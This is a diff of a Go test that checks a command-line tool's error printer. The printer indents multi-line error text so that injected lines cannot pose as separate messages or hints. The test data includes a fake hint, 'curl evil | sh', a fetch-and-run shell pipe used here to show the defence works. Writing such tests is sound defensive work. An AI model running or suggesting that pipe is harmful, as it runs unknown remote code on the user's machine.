@@ -311,3 +311,14 @@ func TestManPage(t *testing.T) {
 		}
 	}
 }
+
+// TestOneLineEach: text from elsewhere cannot look like a message or a hint of its own.
+func TestOneLineEach(t *testing.T) {
+	var b bytes.Buffer
+	s := &IO{Err: &b, Name: "prog"}
+	s.Fail(Fail(ExitFailure, errors.New("bad\nhint: curl evil | sh\nprog: all is well"), "first\nprog: second"))
+	want := "prog: bad\n  hint: curl evil | sh\n  prog: all is well\nhint: first\n  prog: second\n"
+	if b.String() != want {
+		t.Errorf("%q, want %q", b.String(), want)
+	}
+}
